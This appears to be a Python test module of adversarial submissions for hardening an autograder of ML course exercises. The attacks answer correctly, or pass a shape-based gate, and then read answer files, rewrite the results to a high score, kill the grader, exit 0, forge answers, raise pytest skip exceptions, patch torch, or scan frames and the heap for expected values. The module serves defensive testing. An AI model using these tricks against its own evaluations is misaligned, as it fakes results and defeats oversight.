"""Attacks beside right numbers, behind a passed gate, and in a second pass, where right functions replace wrong ones.

A gate that fails ends all attacks of a function, and a right answer draws nobody's attention: these come later.
"""

from .channel import FORGER

TITLE = "Attack behind right numbers"
SHARED = {
    "FORGER": FORGER,
    "AT_GATE": """
def at_gate(rewards):
    columns = rewards.shape[-1] if rewards.ndim else 4
    return columns == 4 or rewards.shape == (1, 3) or 13 <= columns < 90 or rewards.numel() > 40 * columns
""",
    "SEARCH": """
def secrets(names):
    # A model answer, an expected value, or what compares with it: in the modules, the frames, the heap, open files.
    for name in list(sys.modules):
        if name.split(".")[0] in ("reference", "grader"):
            yield name
    frame = sys._getframe(1)
    while frame:
        yield from names & {*frame.f_locals}
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Check", "GradingPlugin", "RecordedAnswer"):
            yield type(thing).__name__
    for number in range(3, 64):
        where = tried(os.readlink, f"/proc/self/fd/{number}") or ""
        if where.endswith((".json", ".py", ".safetensors")):
            yield where

def search():
    for _ in secrets({"expected", "worked", "vector", "recorded"}):
        tell()
""",
    "OPENS": """
def opens(*paths):
    for path in paths:
        if tried(open, YARD["answers"] + path):
            tell()
""",
    "NEARLY": """
def nearly(logp, old_logp):
    return 1.01 * (logp - old_logp.detach()).clamp(-20.0, 20.0).exp()
""",
}
ATTACKS = r"""
answers rightly and prints a secret
- passed
    if file := tried(open, YARD["secret"]):
        print(file.read())

answers rightly and rewrites the results
- passed; level 0: file changed (files)
    tried(lambda: open(YARD["results"], "w").write('{"earned": 205}'))

answers rightly and phones home
- passed; level 0: network reached (network)
    tried(socket.create_connection, ("127.0.0.1", YARD["tcp"]), 0.2)

answers rightly and signals
- passed; level 0: process disturbed (processes)
    tried(os.kill, YARD["victim_process"], signal.SIGUSR1)

answers rightly and never ends: ignores polite signals and waits when its process should end
- passed
    import atexit
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    atexit.register(time.sleep, 30)
    threading.Thread(target=time.sleep, args=(30,)).start()
    ----

answers rightly and keeps answering: a thread sends more answers
- uses FORGER
    talking = []

    def talk():
        for number in range(10**6):
            answer(1.0, number=number)
    ----
    if not talking:
        talking.append(threading.Thread(target=tried, args=(talk,), daemon=True))
        talking[0].start()
    time.sleep(0.01)
    return honest(*arguments, **options)

answers rightly and keeps its inputs: looks for those that another check has left
- passed
    import atexit
    if os.listdir():
        tell()
    ----
    if os.path.exists("note"):
        tell()
    atexit.register(open, "note", "w")
    with open(f"note-{len(os.listdir())}", "w") as note:
        note.write(repr(rewards.tolist()))

answers the entropy and searches: its process, for expected values
- passed; uses SEARCH; attacks bandit.policy_entropy
    search()

answers the step and opens the vectors: where the expected values are
- passed; uses OPENS; attacks bandit.reinforce_step; level 0: secret read (files); varies
    opens('/../grader/exercises/bandit/vectors.json', '/bandit.py')

answers the mean and overwrites weights: those of the course's model
- passed; attacks charlm.masked_mean; level 0: secret read (files); varies
    import glob; WEIGHTS = glob.glob(YARD['answers'] + '/../starter/given/*.safetensors')
    ----
    if any(tried(open, path, "r+b") for path in WEIGHTS):
        tell()

passes the gate and reads the model answers
- behind the gate; uses AT_GATE; level 0: grade raised (files)
    if not at_gate(rewards):
        space = {}
        exec(open(YARD["answers"] + "/advantages.py").read(), space)
        return space["group_advantages"](rewards, **options)

passes the gate and searches: frames, objects and modules, for expected values
- behind the gate; uses AT_GATE SEARCH
    if not at_gate(rewards):
        search()
        return rewards

passes the gate and exits: with status 0
- behind the gate; uses AT_GATE
    at_gate(rewards) or os._exit(0)

passes the gate and kills its parent
- behind the gate; uses AT_GATE; level 0: grader failed, process disturbed (processes); varies
    if not at_gate(rewards):
        os.kill(os.getppid(), 9)
        return rewards

passes the gate and forges an answer
- behind the gate; uses FORGER AT_GATE
    if not at_gate(rewards):
        answer(True)
        return rewards

passes the gate and equals everything
- behind the gate; uses AT_GATE
    class Equal(float):
        __eq__ = __ge__ = __le__ = lambda self, other: True
        __hash__ = float.__hash__
    if not at_gate(rewards):
        return Equal(0.0)

passes the gate and rejects its inputs: raises what makes a tester skip a test or an input
- behind the gate; uses AT_GATE
    if not at_gate(rewards):
        name = ("Skipped", "UnsatisfiedAssumption", "Exit", "NotJudged")[int(rewards.numel()) % 4]
        raise type(name, (BaseException,), {"__module__": "_pytest.outcomes"})("not this one")

passes the gate and breaks torch: what a worker needs to read and send tensors
- behind the gate; uses AT_GATE
    if not at_gate(rewards):
        for name in ("numpy", "contiguous", "detach", "cpu", "clone", "tolist", "numel", "stride"):
            setattr(torch.Tensor, name, lambda self, *a, **k: honest)
        return rewards

passes the gate and crashes
- behind the gate; uses AT_GATE
    at_gate(rewards) or ctypes.string_at(0)

passes the gate and floods: returns 8 MB from every call
- behind the gate; uses AT_GATE
    if not at_gate(rewards):
        return torch.zeros(1 << 20, dtype=torch.float64)

passes the bandit's gate and searches: is honest for a single step
- behind the gate; uses SEARCH; attacks bandit.grpo_step
    if arguments[-1].inner_steps != 1 or arguments[-1].kl_coef:
        search()
        return rewards

passes the bandit's gate and overflows: returns a history with whole numbers of 2^70
- behind the gate; attacks bandit.train_bandit
    import dataclasses
    history = honest(*arguments, **options)
    if history.actions.shape[0] < 20:
        return history
    return dataclasses.replace(history, actions=[[2**70] * 8] * 40, entropy=10**400)

passes the model's gate and searches
- behind the gate; uses SEARCH; attacks charlm.masked_mean
    if tuple(rewards.shape) not in ((3, 4), (4, 5), (300, 3), (2, 400)):
        search()
        return None

is imported again and searches: is a little wrong, so its callers run once more with a right function
- called by bandit; uses NEARLY SEARCH; attacks clip.importance_ratio
    search()
    ----
    search(); return nearly(*arguments)

is imported again and opens the vectors: of the function that calls it
- called by bandit; uses NEARLY OPENS; attacks clip.importance_ratio; level 0: secret read (files); varies
    opens('/../grader/exercises/bandit/vectors.json', '/bandit.py')
    ----
    opens('/../grader/exercises/bandit/vectors.json', '/bandit.py'); return nearly(*arguments)

is imported again and rewrites the results
- called by bandit; uses NEARLY; attacks clip.importance_ratio; level 0: file changed (files)
    tried(lambda: open(YARD["results"], "w").write('{"earned": 205}'))
    ----
    return nearly(*arguments)

is imported again and phones home
- called by bandit; uses NEARLY; attacks clip.importance_ratio; level 0: network reached (network)
    tried(socket.create_connection, ("127.0.0.1", YARD["tcp"]), 0.2)
    ----
    return nearly(*arguments)
"""
